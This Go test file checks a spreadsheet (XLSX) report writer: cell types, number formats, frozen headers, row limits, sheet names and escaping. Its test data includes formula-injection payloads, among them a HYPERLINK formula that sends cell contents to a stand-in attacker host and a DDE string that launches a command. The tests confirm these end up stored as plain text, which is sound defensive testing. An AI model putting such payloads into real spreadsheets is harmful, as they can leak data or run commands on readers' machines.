package reports

import (
	"archive/zip"
	"bytes"
	"errors"
	"io"
	"math"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/apache/arrow-go/v18/arrow"
	"github.com/apache/arrow-go/v18/arrow/decimal128"
	"github.com/apache/arrow-go/v18/arrow/memory"

	"github.com/assay-dev/assay/compiler/result"
	"github.com/assay-dev/assay/reports/xlsxcheck"
)

// injections are texts a spreadsheet could take for formulas or links;
// each must stay a literal text cell.
var injections = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "=1+1", "+1+1", "-1+1", "@SUM(A1)",
	"=cmd|' /C calc'!A0", "\t=1+1", " leading and trailing ", "line\nbreak", evilClinic, "",
}

// xlsxColumns is a result with every kind of cell: text with formula
// injections, integers, a decimal(12,2), floats with NaN and infinities,
// dates (one before 1900, one on Excel's 1900 edge), timestamps with and
// without a time zone, booleans, NULLs everywhere, _level totals and an
// outlier flag.
func xlsxColumns() []testColumn {
	n := len(injections)
	col := func(f func(i int) any) []any {
		vals := make([]any, n)
		for i := range vals {
			vals[i] = f(i)
		}
		return vals
	}
	floats := []float64{0.1, 1234567.891, -0.000012345, math.NaN(), math.Inf(1), math.Inf(-1), 1e21, 2.5, -3, 0, 1e-7, 42}
	return []testColumn{
		{"clinic", arrow.BinaryTypes.String, col(func(i int) any { return injections[i] })},
		{"visits", arrow.PrimitiveTypes.Int64, col(func(i int) any {
			if i == 3 {
				return nil
			}
			return []int64{12345, -7, 0, 0, 1 << 53, 9007199254740993, -9223372036854775808, 1, 2, 3, 4, 5}[i]
		})},
		{"staff_cost", &arrow.Decimal128Type{Precision: 12, Scale: 2}, col(func(i int) any {
			if i == 5 {
				return nil
			}
			return decimal128.FromI64(int64(i*i*1234567 - 500))
		})},
		{"share", arrow.PrimitiveTypes.Float64, col(func(i int) any { return floats[i] })},
		{"wait", arrow.PrimitiveTypes.Float32, col(func(i int) any {
			if i == 1 {
				return nil
			}
			return float32(i) / 10
		})},
		{"day", arrow.FixedWidthTypes.Date32, col(func(i int) any {
			switch i {
			case 0:
				return days(1899, 12, 31) // before Excel's first day
			case 1:
				return days(1900, 2, 28)
			case 2:
				return days(1900, 3, 1)
			case 3:
				return nil
			}
			return days(2024, 12, 23) + arrow.Date32(7*i)
		})},
		{"week", arrow.FixedWidthTypes.Date32, col(func(i int) any { return days(2024, 12, 30) + arrow.Date32(7*i) })},
		{"seen_at", &arrow.TimestampType{Unit: arrow.Microsecond, TimeZone: "UTC"}, col(func(i int) any {
			if i == 2 {
				return nil
			}
			return micros(2025, 3, 7, 9+i, 30, 15, i*125_000_000)
		})},
		{"booked", &arrow.TimestampType{Unit: arrow.Second}, col(func(i int) any {
			return arrow.Timestamp(time.Date(2025, 1, 1+i, 23, 59, 59, 0, time.UTC).Unix())
		})},
		{"done", arrow.FixedWidthTypes.Boolean, col(func(i int) any {
			if i == 4 {
				return nil
			}
			return i%2 == 0
		})},
		{"_level", arrow.PrimitiveTypes.Int32, col(func(i int) any { return int32(map[bool]int{true: 1}[i >= n-2]) })},
		{"share_outlier", arrow.FixedWidthTypes.Boolean, col(func(i int) any { return i == 1 || i == 7 })},
	}
}

// xlsxFormats are the formats of xlsxColumns and the Excel number formats
// they must give.
var xlsxFormats = map[string]result.Format{
	"clinic":     {Label: "Clinic"},
	"visits":     {Style: "number", Decimals: two(0), Label: "Visits"},
	"staff_cost": {Style: "currency", Currency: "USD", Decimals: two(0), Label: "Staff cost"},
	"share":      {Style: "percent", Decimals: two(1), Null: ptr("n/a")},
	"wait":       {Decimals: two(1)},
	"day":        {Date: "DD MMM YYYY", Label: "Day"},
	"week":       {Date: "YYYY-Www"},
	"seen_at":    {Date: `ddd, DD "MM" YY`},
	"done":       {Label: "Done?"},
}

var xlsxNumFmts = map[string]string{
	"visits":        "#,##0",
	"staff_cost":    `"$"#,##0`,
	"share":         "#,##0.0%",
	"wait":          "#,##0.0",
	"day":           "dd mmm yyyy",
	"seen_at":       `ddd, dd \"mm\" yy`,
	"booked":        "yyyy-mm-dd hh:mm:ss",
	"_level":        "#,##0",
	"share_outlier": "General",
}

// writeBoth writes the same result as CSV and as an XLSX file, and
// returns the CSV and the path of the workbook.
func writeBoth(t *testing.T, mem memory.Allocator, cols []testColumn, opts XLSXOptions) (string, string) {
	t.Helper()
	var csvOut bytes.Buffer
	if err := WriteCSV(&csvOut, readerOfColumns(t, mem, cols)); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "out.xlsx")
	err := WriteFileAtomic(path, func(w io.Writer) error {
		return WriteXLSX(w, readerOfColumns(t, mem, cols), opts)
	})
	if err != nil {
		t.Fatal(err)
	}
	return csvOut.String(), path
}

func xlsxOptions() XLSXOptions {
	return XLSXOptions{
		About: About{
			Name: "weekly_throughput", Title: "Weekly throughput", Description: "Clinics & weeks, =1+1",
			Params:   []Param{{"start", "2025-01-06"}, {"region", "=North"}},
			RunAt:    time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC),
			Elapsed:  1500 * time.Millisecond,
			Database: "emr",
		},
		Formats: xlsxFormats,
	}
}

// TestXLSXMatchesCSV reads the workbook back with openpyxl and compares
// every cell with the CSV of the same result: value, type and number
// format.
func TestXLSXMatchesCSV(t *testing.T) {
	mem := newChecked(t)
	csvText, path := writeBoth(t, mem, xlsxColumns(), xlsxOptions())
	wb := xlsxcheck.Read(t, path)
	sh := wb.Sheet(t, "weekly_throughput")
	xlsxcheck.CompareCSV(t, sh, csvText, xlsxcheck.Expect{
		Kinds: map[string]xlsxcheck.Kind{
			"clinic": xlsxcheck.Text, "visits": xlsxcheck.Number, "staff_cost": xlsxcheck.Number,
			"share": xlsxcheck.Number, "wait": xlsxcheck.Number, "day": xlsxcheck.Date,
			"seen_at": xlsxcheck.Date, "booked": xlsxcheck.Date, "done": xlsxcheck.Bool,
			"_level": xlsxcheck.Number, "share_outlier": xlsxcheck.Bool,
		},
		NumFmts: xlsxNumFmts,
		Nulls:   map[string]string{"share": "n/a"},
		Shown:   map[string]func(string) string{"week": func(v string) string { return isoWeekText(t, v, "%d-W%02d") }},
	})
	wantHeader := []string{"Clinic", "Visits", "Staff cost", "share", "wait", "Day", "week", "seen_at", "booked", "Done?", "_level", "share_outlier"}
	for c, want := range wantHeader {
		if h := sh.Rows[0][c]; h.Text() != want || h.T != "s" || !h.B {
			t.Errorf("header %d: %q (type %s, bold %v), want bold %q", c, h.Text(), h.T, h.B, want)
		}
	}
	if wb.Active != "weekly_throughput" || len(wb.Sheets) != 2 || wb.Sheets[1].Name != "About" {
		t.Errorf("sheets %v, active %s", wb.Sheets, wb.Active)
	}
}

// TestXLSXLayout checks the frozen header, the autofilter, the widths,
// bold totals and filled outlier cells.
func TestXLSXLayout(t *testing.T) {
	mem := newChecked(t)
	cols := xlsxColumns()
	_, path := writeBoth(t, mem, cols, xlsxOptions())
	sh := xlsxcheck.Read(t, path).Sheet(t, "weekly_throughput")
	if sh.Freeze == nil || *sh.Freeze != "A2" {
		t.Errorf("frozen at %v, want A2", sh.Freeze)
	}
	n := len(injections)
	if want := "$A$1:$L$" + strconv.Itoa(n+1); sh.Filter == nil || *sh.Filter != want {
		t.Errorf("autofilter %v, want %s", deref(sh.Filter), want)
	}
	if len(sh.Widths) != len(cols) {
		t.Errorf("widths of %d columns, want %d: %v", len(sh.Widths), len(cols), sh.Widths)
	}
	if w := sh.Widths["B"]; w < 6 || w > 62 {
		t.Errorf("width of B %v", w)
	}
	for r := 1; r <= n; r++ {
		total := r > n-2
		for c, cell := range sh.Rows[r] {
			if c == 11 || cell.V == nil && !total {
				continue
			}
			outlier := c == 3 && (r-1 == 1 || r-1 == 7)
			if cell.B != (total || outlier) {
				t.Errorf("row %d column %d: bold %v, total %v, outlier %v", r, c, cell.B, total, outlier)
			}
			if outlier != (cell.Fill == "FF"+xlsxOutlierFill) {
				t.Errorf("row %d column %d: fill %q, outlier %v", r, c, cell.Fill, outlier)
			}
		}
	}
}

// colMinRE finds the first column of each <col> element of a sheet.
var colMinRE = regexp.MustCompile(`<col min="(\d+)"`)

// TestXLSXNoFormulas looks into the sheets' XML: no formula element, the
// columns in ascending order, and every injection string stored as an
// inline string; openpyxl reads each
// as a text cell, never a formula.
func TestXLSXNoFormulas(t *testing.T) {
	mem := newChecked(t)
	_, path := writeBoth(t, mem, xlsxColumns(), xlsxOptions())
	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(body, []byte("<f>")) || bytes.Contains(body, []byte("<f ")) {
			t.Errorf("%s holds a formula:\n%s", f.Name, body)
		}
		// Excel wants the column definitions in ascending order.
		last := 0
		for _, m := range colMinRE.FindAllSubmatch(body, -1) {
			n, _ := strconv.Atoi(string(m[1]))
			if n <= last {
				t.Errorf("%s: <col min=%d> after min=%d", f.Name, n, last)
			}
			last = n
		}
	}
	wb := xlsxcheck.Read(t, path)
	sh := wb.Sheet(t, "weekly_throughput")
	for i, want := range injections {
		cell := sh.Rows[i+1][0]
		if want == "" {
			if cell.V != nil && cell.Text() != "" {
				t.Errorf("empty text became %q", cell.Text())
			}
			continue
		}
		if cell.T != "s" || cell.Text() != want {
			t.Errorf("injection %q: cell %q of type %s", want, cell.Text(), cell.T)
		}
	}
	for _, row := range wb.Sheet(t, "About").Rows {
		for _, cell := range row {
			if cell.T == "f" {
				t.Errorf("About holds a formula %q", cell.Text())
			}
		}
	}
}

// TestXLSXAbout checks the About sheet: title, description, parameters,
// database name, run time as a date, row count.
func TestXLSXAbout(t *testing.T) {
	mem := newChecked(t)
	_, path := writeBoth(t, mem, xlsxColumns(), xlsxOptions())
	about := map[string]xlsxcheck.Cell{}
	for _, row := range xlsxcheck.Read(t, path).Sheet(t, "About").Rows {
		if len(row) >= 2 {
			about[row[0].Text()] = row[1]
		}
	}
	want := map[string]string{
		"Title": "Weekly throughput", "Description": "Clinics & weeks, =1+1", "Report": "weekly_throughput",
		"Parameter start": "2025-01-06", "Parameter region": "=North", "Database": "emr",
		"Run at": "2026-01-02T03:04:05", "Took": "1.5s", "Rows": strconv.Itoa(len(injections)),
	}
	for k, v := range want {
		if got := about[k]; got.Text() != v {
			t.Errorf("About %s: %q (type %s), want %q", k, got.Text(), got.T, v)
		}
	}
	if about["Run at"].T != "d" || about["Rows"].T != "n" || about["Parameter region"].T != "s" {
		t.Errorf("About types: run at %s, rows %s, region %s", about["Run at"].T, about["Rows"].T, about["Parameter region"].T)
	}
}

// TestXLSXTooManyRows writes one row more than a sheet holds: the error
// says so, and the file written before stays as it was, with no
// temporary file left beside it.
func TestXLSXTooManyRows(t *testing.T) {
	if testing.Short() {
		t.Skip("writes a million rows")
	}
	mem := newChecked(t)
	tmp := t.TempDir()
	t.Setenv("TMPDIR", tmp) // where excelize spills the sheet XML
	vals := make([]any, MaxXLSXRows)
	for i := range vals {
		vals[i] = int64(i)
	}
	dir := t.TempDir()
	path := filepath.Join(dir, "big.xlsx")
	if err := os.WriteFile(path, []byte("previous good file"), 0o644); err != nil {
		t.Fatal(err)
	}
	err := WriteFileAtomic(path, func(w io.Writer) error {
		return WriteXLSX(w, readerOfColumns(t, mem, []testColumn{{"n", arrow.PrimitiveTypes.Int64, vals}}), XLSXOptions{About: About{Name: "big"}})
	})
	if !errors.Is(err, ErrTooManyRows) || !strings.Contains(err.Error(), "1,048,575 rows") {
		t.Fatalf("want ErrTooManyRows naming the limit, got %v", err)
	}
	if b, _ := os.ReadFile(path); string(b) != "previous good file" {
		t.Errorf("the previous file changed: %q", b)
	}
	entries, _ := os.ReadDir(dir)
	if len(entries) != 1 {
		t.Errorf("files left behind: %v", entries)
	}
	if spilled, _ := os.ReadDir(tmp); len(spilled) != 0 {
		t.Errorf("excelize's temporary files left behind: %v", spilled)
	}
	// Without an earlier file, no file at all.
	fresh := filepath.Join(dir, "fresh.xlsx")
	err = WriteFileAtomic(fresh, func(w io.Writer) error {
		return WriteXLSX(w, readerOfColumns(t, mem, []testColumn{{"n", arrow.PrimitiveTypes.Int64, vals}}), XLSXOptions{About: About{Name: "big"}})
	})
	if !errors.Is(err, ErrTooManyRows) {
		t.Fatalf("want ErrTooManyRows, got %v", err)
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 1 {
		t.Errorf("files left behind: %v", entries)
	}
}

// TestXLSXEmptyResult: a result without rows is a sheet with its header
// and an autofilter over it.
func TestXLSXEmptyResult(t *testing.T) {
	mem := newChecked(t)
	cols := []testColumn{{"clinic", arrow.BinaryTypes.String, nil}, {"visits", arrow.PrimitiveTypes.Int64, nil}}
	csvText, path := writeBoth(t, mem, cols, XLSXOptions{About: About{Name: "empty"}})
	sh := xlsxcheck.Read(t, path).Sheet(t, "empty")
	xlsxcheck.CompareCSV(t, sh, csvText, xlsxcheck.Expect{})
	if len(sh.Rows) != 1 || sh.Rows[0][1].Text() != "visits" || deref(sh.Filter) != "$A$1:$B$1" {
		t.Errorf("rows %v, filter %s", sh.Rows, deref(sh.Filter))
	}
}

// TestXLSXLimitExact fills a sheet to its last row: allowed.
func TestXLSXLimitExact(t *testing.T) {
	if testing.Short() {
		t.Skip("writes a million rows")
	}
	x, err := NewXLSXWriter("full", []SheetColumn{{Header: []string{"n"}, Type: SheetNumber}})
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	for i := 0; i < MaxXLSXRows-1; i++ {
		if err := x.AddRow(SheetRow{Cells: []SheetCell{{Value: int64(i)}}}); err != nil {
			t.Fatalf("row %d: %v", i+1, err)
		}
	}
	if err := x.AddRow(SheetRow{Cells: []SheetCell{{Value: int64(0)}}}); !errors.Is(err, ErrTooManyRows) {
		t.Fatalf("one more row: %v", err)
	}
}

// TestXLSXTwoHeaderLevels feeds the writer a pivoted grid directly: two
// header rows, the upper one merged over equal neighbours, both frozen,
// the autofilter on the lower one.
func TestXLSXTwoHeaderLevels(t *testing.T) {
	cols := []SheetColumn{
		{Header: []string{"", "Clinic"}, Type: SheetText},
		{Header: []string{"2025-W01", "Completed"}, Type: SheetNumber, NumFmt: "#,##0"},
		{Header: []string{"2025-W01", "Cost / visit"}, Type: SheetNumber, NumFmt: `"€"#,##0.00`},
		{Header: []string{"2025-W02", "Completed"}, Type: SheetNumber, NumFmt: "#,##0"},
		{Header: []string{"2025-W02", "Cost / visit"}, Type: SheetNumber, NumFmt: `"€"#,##0.00`},
	}
	x, err := NewXLSXWriter("pivot", cols)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	rows := []SheetRow{
		{Cells: []SheetCell{{Value: "Aurora"}, {Value: int64(10)}, {Value: 190.24}, {Value: nil}, {Value: nil}}},
		{Cells: []SheetCell{{Value: nil}, {Value: int64(30)}, {Value: -3.0}, {Value: int64(5)}, {Value: 12.5, Outlier: true}}, Total: true},
	}
	for _, r := range rows {
		if err := x.AddRow(r); err != nil {
			t.Fatal(err)
		}
	}
	path := filepath.Join(t.TempDir(), "pivot.xlsx")
	if err := WriteFileAtomic(path, func(w io.Writer) error { return x.Finish(w, About{Name: "pivot"}) }); err != nil {
		t.Fatal(err)
	}
	sh := xlsxcheck.Read(t, path).Sheet(t, "pivot")
	if sh.Freeze == nil || *sh.Freeze != "A3" || sh.Filter == nil || *sh.Filter != "$A$2:$E$4" {
		t.Errorf("freeze %v, filter %v", deref(sh.Freeze), deref(sh.Filter))
	}
	if strings.Join(sh.Merged, " ") != "B1:C1 D1:E1" {
		t.Errorf("merged %v", sh.Merged)
	}
	if c := sh.Rows[2][2]; c.T != "n" || c.Text() != "190.24" || c.F != `"€"#,##0.00` {
		t.Errorf("cost cell %+v", c)
	}
	if c := sh.Rows[2][3]; c.V != nil {
		t.Errorf("missing combination: %+v, want an empty cell", c)
	}
	if c := sh.Rows[3][4]; !c.B || c.Fill != "FF"+xlsxOutlierFill {
		t.Errorf("total outlier cell %+v", c)
	}
}

// TestSheetName checks Excel's rules for sheet names.
func TestSheetName(t *testing.T) {
	for in, want := range map[string]string{
		"weekly":                               "weekly",
		"a:b/c\\d?e*f[g]h":                     "a_b_c_d_e_f_g_h",
		"'quoted'":                             "quoted",
		"it's":                                 "it_s",
		"":                                     "Report",
		"about":                                "about report",
		"HISTORY":                              "HISTORY report",
		"a_very_long_report_name_that_goes_on": "a_very_long_report_name_that_go",
		"ééééééééééééééééééééééééééééééééééé": "ééééééééééééééééééééééééééééééé",
		"😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀":                   "😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀",
	} {
		if got := SheetName(in); got != want {
			t.Errorf("SheetName(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestExcelNumFmt checks the number formats of the display styles.
func TestExcelNumFmt(t *testing.T) {
	f64, i64 := arrow.PrimitiveTypes.Float64, arrow.PrimitiveTypes.Int64
	dec := &arrow.Decimal128Type{Precision: 12, Scale: 2}
	for _, c := range []struct {
		dt   arrow.DataType
		fm   result.Format
		want string
	}{
		{i64, result.Format{}, "#,##0"},
		{f64, result.Format{}, "#,##0.0###"},
		{dec, result.Format{}, "#,##0.00"},
		{&arrow.Decimal128Type{Precision: 20, Scale: 6}, result.Format{}, "#,##0.0###"},
		{f64, result.Format{Style: "currency", Currency: "EUR"}, `"€"#,##0.00`},
		{f64, result.Format{Style: "currency", Currency: "JPY"}, `"¥"#,##0`},
		{f64, result.Format{Style: "currency", Currency: "CHF", Decimals: two(1)}, `"CHF "#,##0.0`},
		{f64, result.Format{Style: "percent"}, "#,##0.0%"},
		{f64, result.Format{Style: "percent", Decimals: two(0)}, "#,##0%"},
		{i64, result.Format{Decimals: two(3)}, "#,##0.000"},
		{arrow.FixedWidthTypes.Date32, result.Format{}, "yyyy-mm-dd"},
		{arrow.FixedWidthTypes.Date32, result.Format{Date: "YYYY Q"}, ""}, // written as text
		{arrow.FixedWidthTypes.Date32, result.Format{Date: "MMM YY"}, "mmm yy"},
		{arrow.FixedWidthTypes.Date32, result.Format{Date: "DD.MM.YYYY (Www) at"}, ""},
		{&arrow.TimestampType{Unit: arrow.Second}, result.Format{Date: "YYYY-Www"}, ""},
		{arrow.FixedWidthTypes.Date32, result.Format{Date: "DD. MMM, YYYY x"}, `dd. mmm, yyyy" x"`},
		{&arrow.TimestampType{Unit: arrow.Microsecond}, result.Format{}, "yyyy-mm-dd hh:mm:ss"},
		{arrow.BinaryTypes.String, result.Format{Style: "currency", Currency: "USD"}, ""},
	} {
		if got := ExcelNumFmt(c.dt, c.fm); got != c.want {
			t.Errorf("ExcelNumFmt(%s, %+v) = %q, want %q", c.dt, c.fm, got, c.want)
		}
	}
}

// deref is *s, or "<nil>".
func deref(s *string) string {
	if s == nil {
		return "<nil>"
	}
	return *s
}

// TestXLSXEscapesOOXMLEscapes: a text that looks like an OOXML character
// escape (_x0041_, which Excel would read as "A") is stored with its
// underscore escaped (_x005F_x0041_), so that Excel shows the text as
// it was. openpyxl 3.0 does not undo the escape, so this looks at the
// sheet's XML instead.
func TestXLSXEscapesOOXMLEscapes(t *testing.T) {
	x, err := NewXLSXWriter("esc", []SheetColumn{{Header: []string{"t"}, Type: SheetText}})
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	if err := x.AddRow(SheetRow{Cells: []SheetCell{{Value: "_x0041_"}}}); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := x.Finish(&out, About{Name: "esc"}); err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(out.Bytes()), int64(out.Len()))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := zr.Open("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(rc)
	rc.Close()
	if !bytes.Contains(body, []byte(`<is><t>_x005F_x0041_</t></is>`)) {
		t.Errorf("sheet XML:\n%s", body)
	}
}
